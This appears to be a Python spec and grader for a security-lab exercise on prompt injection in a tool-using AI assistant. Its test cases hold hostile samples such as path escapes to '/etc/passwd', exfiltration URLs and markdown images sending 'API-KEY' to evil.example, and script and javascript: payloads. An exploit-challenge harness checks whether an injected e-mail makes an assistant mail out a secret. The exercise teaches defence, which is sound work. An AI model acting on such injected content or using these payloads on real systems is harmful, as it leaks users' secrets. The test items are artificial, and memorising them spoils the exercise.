"""Spec of exercise 17_prompt_injection: allow_tool_call, render_reply.

Corpus entries (``public_corpus()`` and ``autograder/hidden/17_prompt_injection.json``):
for the ``allow_tool_call`` keys, ``[call, task]`` or just a dict ``call`` (then ``DEFAULT_TASK``,
also written ``"<default>"`` as the task);
a task whose "workspace" is ``"<ws>"`` gets ``WORKSPACE``. For the ``render_reply`` keys,
``[text, allowed_hosts]`` or just ``text`` (then ``["docs.example.com"]``). The expected
outcome is what the reference solution in ``targets`` does.
"""

from __future__ import annotations

import html
import re
import secrets
from collections.abc import Callable
from typing import Any

from seclab.spec import Case, Expectation, Part, satisfies

PARTS = {
    part.name: part
    for part in [
        Part("allow_tool_call.works", "allow_tool_call",
             "allow_tool_call allows what the task needs and refuses tools the task does not list"),
        Part("allow_tool_call.attack", "allow_tool_call",
             "allow_tool_call refuses path escapes, strangers, foreign hosts, tainted exfiltration and "
             "tainted deletes, and malformed calls"),
        Part("render_reply.works", "render_reply", "render_reply escapes text and keeps links to allowed hosts"),
        Part("render_reply.attack", "render_reply",
             "render_reply never emits an image or a link to a foreign host, and no markup of the model's"),
    ]
}

HINTS = {
    "allow": "Allow read_inbox always, read_file for a path inside the workspace, send_email to a listed recipient "
             "(ignoring ASCII case), fetch_url of an http(s) URL on a listed host (any port, any case).",
    "tool-not-allowed": "A tool that is not in task['allowed_tools'] is refused, whatever its arguments.",
    "path": "Compare os.path.realpath(os.path.join(workspace, path)) with os.path.realpath(workspace): it must lie "
            "strictly below it (the workspace itself, '..', absolute paths elsewhere and '/ws-evil' siblings are "
            "refused). Test with root + os.sep, not a bare startswith(root).",
    "recipient": "send_email: args['to'] must be a str equal to a listed recipient ignoring ASCII case, nothing "
                 "else: no trimming, no parsing of 'Name <addr>', no lists.",
    "host": "fetch_url: scheme http or https, no '@' anywhere in the authority, and urlsplit's host part compared "
            "with the allowlist ignoring ASCII case only (a suffix or a look-alike is not the host).",
    "tainted-fetch": "Once untrusted content is in the context (tainted), a fetched URL can carry data out in its "
                     "query or fragment: refuse any '?' or '#' in the URL of a tainted fetch_url.",
    "tainted-delete": "delete_file is a side effect nobody can undo: refuse it whenever the call is tainted.",
    "malformed": "Check every key and type first (call: tool str, args dict, tainted bool; task: three lists and "
                 "a str workspace), return False for anything else, and never raise: wrap the check in try/except.",
    "unknown-tool": "Only the five known tools can ever be allowed, even if the task lists another one.",
    "markdown": "Escape all text with html.escape; a link [label](https://allowed-host/...) becomes "
                "<a href=\"url\" rel=\"noopener noreferrer\">label</a> with both parts escaped.",
    "image": "Every image ![alt](url) becomes the text [image: alt], escaped, whatever its URL: a browser fetches "
             "images by itself, so an image URL can carry the secret out without a click.",
    "foreign-link": "Only https links whose host (urlsplit, ASCII case-insensitive) is in allowed_hosts and with no "
                    "userinfo become <a>; anything else is just its escaped label.",
    "escape": "The model's text is untrusted: escape < > & (and quotes) everywhere, including labels, alt texts and "
              "URLs in href, and produce no other markup.",
}

WORKSPACE = "/srv/assistant/workspace"
DEFAULT_TASK = {"allowed_tools": ["read_inbox", "read_file", "send_email", "fetch_url", "delete_file"],
                "allowed_recipients": ["bob@corp.example", "Alice@Corp.Example"],
                "allowed_hosts": ["docs.corp.example", "WIKI.corp.example"], "workspace": "<ws>"}
DEFAULT_HOSTS = ["docs.example.com"]

#: corpus key -> part
TOOL_KEYS = {
    "allow": "allow_tool_call.works", "tool_not_allowed": "allow_tool_call.works",
    "path": "allow_tool_call.attack", "recipient": "allow_tool_call.attack", "host": "allow_tool_call.attack",
    "tainted_fetch": "allow_tool_call.attack", "tainted_delete": "allow_tool_call.attack",
    "malformed": "allow_tool_call.attack", "unknown_tool": "allow_tool_call.attack",
}
REPLY_KEYS = {"markdown": "render_reply.works", "image": "render_reply.attack",
              "foreign_link": "render_reply.attack", "escape": "render_reply.attack"}

FIXTURES: dict[str, Callable[[], list[Any]]] = {}
SCENARIOS: dict[str, Callable[..., Any]] = {}


def _with_workspace(value: Any) -> Any:
    if isinstance(value, dict):
        return {key: _with_workspace(item) for key, item in value.items()}
    if isinstance(value, list):
        return [_with_workspace(item) for item in value]
    if isinstance(value, str):
        return value.replace("<ws>", WORKSPACE)
    return value


def tool_entry(entry: Any) -> tuple[Any, Any]:
    """A corpus entry as (call, task)."""
    if isinstance(entry, dict):
        return _with_workspace(entry), _with_workspace(DEFAULT_TASK)
    call, task = entry
    return _with_workspace(call), _with_workspace(DEFAULT_TASK if task == "<default>" else task)


def reply_entry(entry: Any) -> tuple[str, list[Any]]:
    """A corpus entry as (text, allowed_hosts)."""
    if isinstance(entry, str):
        return entry, list(DEFAULT_HOSTS)
    text, hosts = entry
    return text, list(hosts)


def _is_bool(expected: bool) -> Expectation:
    return satisfies(lambda value: value is expected, f"return {expected!r} (a bool)")


_ANCHOR = re.compile(r'<a href="([^"]*)" rel="noopener noreferrer">(.*?)</a>', re.S)
_BARE_AMPERSAND = re.compile(r"&(?![A-Za-z][A-Za-z0-9]*;|#[0-9]+;|#[xX][0-9a-fA-F]+;)")


def _escaped(piece: str) -> bool:
    return "<" not in piece and ">" not in piece and not _BARE_AMPERSAND.search(piece)


def canonical_html(page: Any) -> list[tuple[str, ...]] | None:
    """``page`` as text and link pieces with entities decoded; None when it is not safely escaped."""
    if not isinstance(page, str):
        return None
    pieces: list[tuple[str, ...]] = []
    position = 0
    for match in _ANCHOR.finditer(page):
        pieces.append(("text", page[position:match.start()]))
        href, label = match.groups()
        pieces.append(("a", href, label))
        position = match.end()
    pieces.append(("text", page[position:]))
    if not all(_escaped(part) for piece in pieces for part in piece[1:]):
        return None
    decoded: list[tuple[str, ...]] = []
    for piece in pieces:
        parts = tuple(html.unescape(part) for part in piece[1:])
        if piece[0] == "text" and decoded and decoded[-1][0] == "text":
            decoded[-1] = ("text", decoded[-1][1] + parts[0])
        else:
            decoded.append((piece[0], *parts))
    return [piece for piece in decoded if piece != ("text", "")]


def _renders_as(expected: str) -> Expectation:
    wanted = canonical_html(expected)
    return satisfies(lambda value: canonical_html(value) == wanted,
                     f"return {expected!r} (any standard HTML escaping of the same text)")


def cases(corpus: dict[str, list[Any]], public: bool = True) -> list[Case]:
    """All cases for ``corpus`` (keys as in ``public_corpus()``)."""
    from seclab.topics.prompt_injection.targets import allow_tool_call, render_reply

    found: list[Case] = []
    for key, part in TOOL_KEYS.items():
        for entry in corpus.get(key, []):
            call, task = tool_entry(entry)
            found.append(Case(part, key.replace("_", "-"), "allow_tool_call", (call, task),
                              _is_bool(allow_tool_call(call, task)), public=public))
    for key, part in REPLY_KEYS.items():
        for entry in corpus.get(key, []):
            text, hosts = reply_entry(entry)
            found.append(Case(part, key.replace("_", "-"), "render_reply", (text, hosts),
                              _renders_as(render_reply(text, hosts)), public=public))
    return found


def _call(tool: str, tainted: bool = False, **args: Any) -> dict[str, Any]:
    return {"tool": tool, "args": args, "tainted": tainted}


def public_corpus() -> dict[str, list[Any]]:
    c = _call
    return {
        "allow": [c("read_inbox"), c("read_inbox", True), c("read_file", path="notes.md"),
                  c("read_file", True, path="reports/q3.txt"), c("send_email", to="bob@corp.example", body="hi"),
                  c("send_email", True, to="ALICE@corp.example"), c("fetch_url", url="https://docs.corp.example/a?x=1"),
                  c("fetch_url", True, url="http://wiki.corp.example:8080/page"), c("delete_file", path="tmp/old.txt")],
        "tool_not_allowed": [[c("send_email", to="bob@corp.example"),
                              {**DEFAULT_TASK, "allowed_tools": ["read_inbox", "read_file"]}],
                             [c("read_inbox"), {**DEFAULT_TASK, "allowed_tools": []}]],
        "path": [c("read_file", path="../secrets.txt"), c("read_file", path="/etc/passwd"), c("read_file", path=""),
                 c("read_file", path="."), c("read_file", path="a/../../x"), c("delete_file", path="../workspace-old/x"),
                 c("read_file", path=["notes.md"])],
        "recipient": [c("send_email", to="eve@evil.example"), c("send_email", to=" bob@corp.example"),
                      c("send_email", to="Bob <bob@corp.example>"), c("send_email", to=["bob@corp.example"]),
                      c("send_email", to="bob@corp.example, eve@evil.example"), c("send_email")],
        "host": [c("fetch_url", url="https://evil.example/"), c("fetch_url", url="https://docs.corp.example.evil.example/"),
                 c("fetch_url", url="https://docs.corp.example@evil.example/"), c("fetch_url", url="https://@docs.corp.example/"),
                 c("fetch_url", url="ftp://docs.corp.example/"), c("fetch_url", url="//docs.corp.example/"),
                 c("fetch_url", url="file:///etc/passwd")],
        "tainted_fetch": [c("fetch_url", True, url="https://docs.corp.example/log?d=API-KEY"),
                          c("fetch_url", True, url="https://docs.corp.example/page#API-KEY"),
                          c("fetch_url", True, url="https://docs.corp.example/?")],
        "tainted_delete": [c("delete_file", True, path="notes.md"), c("delete_file", True, path="reports/q3.txt")],
        "malformed": [{"tool": "read_inbox", "args": {}}, {"tool": "read_inbox", "args": {}, "tainted": "no"},
                      {"tool": "read_inbox", "args": [], "tainted": False}, ["read_inbox", "<default>"], [None, "<default>"], [c("read_inbox"), None],
                      [c("read_inbox"), {**DEFAULT_TASK, "workspace": None}],
                      [c("read_inbox"), {key: value for key, value in DEFAULT_TASK.items() if key != "allowed_hosts"}],
                      [c("read_inbox"), {**DEFAULT_TASK, "allowed_tools": "read_inbox"}]],
        "unknown_tool": [[c("run_shell", cmd="id"), {**DEFAULT_TASK, "allowed_tools": ["run_shell"]}],
                         [c("READ_INBOX"), {**DEFAULT_TASK, "allowed_tools": ["READ_INBOX"]}]],
        "markdown": ["Your order shipped.", "See [the guide](https://docs.example.com/guide?id=1&x=2).",
                     ["Read [A](https://DOCS.example.com/a) and [B](https://wiki.example.com:8443/b)",
                      ["docs.example.com", "Wiki.Example.Com"]], "Tom & Jerry say \"hi\""],
        "image": ["![logo](https://evil.example/p.png?d=API-KEY-1)", "![chart](https://docs.example.com/c.png)",
                  "a ![x](https://evil.example/?q=1) b ![y]() c", "![<b>](https://evil.example/)"],
        "foreign_link": ["[click](https://evil.example/?d=SECRET)", "[x](http://docs.example.com/)",
                         "[x](https://docs.example.com@evil.example/)", "[x](javascript:alert(1))",
                         "[x](https://docs.example.com.evil.example/)", "[x](//docs.example.com/)",
                         "[x](https://user:pw@docs.example.com/)"],
        "escape": ["<img src=https://evil.example/?d=1>", "<script>alert(1)</script>",
                   "[<b>bold</b>](https://docs.example.com/)", '[x](https://docs.example.com/"onmouseover="alert(1))',
                   "[x](https://docs.example.com/?a=<b>)"],
    }


# --- the exploit challenge ---------------------------------------------------------------

def _mail_of(payload: Any) -> dict[str, str] | None:
    if isinstance(payload, str):
        mail: Any = {"from": "someone@outside.example", "subject": "Hello", "body": payload}
    elif isinstance(payload, dict):
        mail = {"from": "someone@outside.example", "subject": "Hello", **payload}
    else:
        return None
    if not all(isinstance(mail.get(key), str) for key in ("from", "subject", "body")):
        return None
    if sum(len(mail[key]) for key in ("from", "subject", "body")) > 10_000:
        return None
    return {key: mail[key] for key in ("from", "subject", "body")}


def exploit_works(payload: Any) -> dict[str, bool]:
    """Replay a recorded e-mail (its body as a str, or {"from", "subject", "body"}) in a fresh mailbox.

    The user asks each assistant to summarise the inbox; success means a fresh random
    secret from secrets.txt went out in a mail to an address outside corp.example.
    """
    from seclab.topics.prompt_injection.targets import (
        demo_world,
        guarded_assistant,
        secret_mailed_out,
        vulnerable_assistant,
    )

    mail = _mail_of(payload)
    if mail is None:
        return {"vulnerable": False, "fixed": False}
    results = {}
    for name, assistant in (("vulnerable", vulnerable_assistant), ("fixed", guarded_assistant)):
        secret = "API-KEY-" + secrets.token_hex(8)
        with demo_world([mail], secret=secret) as world:
            assistant(world).run("Please summarise my inbox.")
            results[name] = secret_mailed_out(world, secret)
    return results
